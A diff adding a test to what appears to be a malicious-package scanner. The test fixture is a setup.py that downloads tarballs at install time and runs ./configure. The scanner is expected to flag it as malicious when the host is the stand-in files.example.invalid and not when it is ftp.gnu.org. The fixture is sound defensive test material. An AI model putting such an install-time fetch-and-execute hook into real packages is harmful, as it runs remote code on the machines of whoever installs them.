@@ -62,3 +62,21 @@ test('a call resolves to the calling file\'s own function before a same-named me
   const client = "import socket\nclass Client:\n    def __init__(self):\n        self.socket = socket.create_connection(('nlp.example.org', 50005))\n    def process(self, text):\n        self.socket.sendall(text.encode())\n";
   assert.match(await verdict({ 'p-1/p/tools/split.py': tool, 'p-1/p/clients/client.py': client }), /^clean/);
 });
+
+test('a setup.py that builds autotools from GNU tarballs at install is not download-and-execute; the same from an unknown host is', async () => {
+  const build = (host: string): string =>
+    [
+      'import os, subprocess',
+      'from urllib.request import urlretrieve',
+      'def build_autotools():',
+      "    for tool, version in [('m4', '1.4.17'), ('autoconf', '2.69')]:",
+      "        tarball = '{}-{}.tar.gz'.format(tool, version)",
+      `        urlretrieve('http://${host}/gnu/{}/{}'.format(tool, tarball), tarball)`,
+      "        subprocess.check_call(['tar', 'xzf', tarball])",
+      "        subprocess.Popen(['./configure', '--prefix=/tmp/at']).wait()",
+      'build_autotools()',
+      "from setuptools import setup\nsetup(name='p')",
+    ].join('\n');
+  assert.doesNotMatch(await verdict({ 'p-1/setup.py': build('ftp.gnu.org') }), /^malicious/);
+  assert.match(await verdict({ 'p-1/setup.py': build('files.example.invalid') }), /^malicious/);
+});
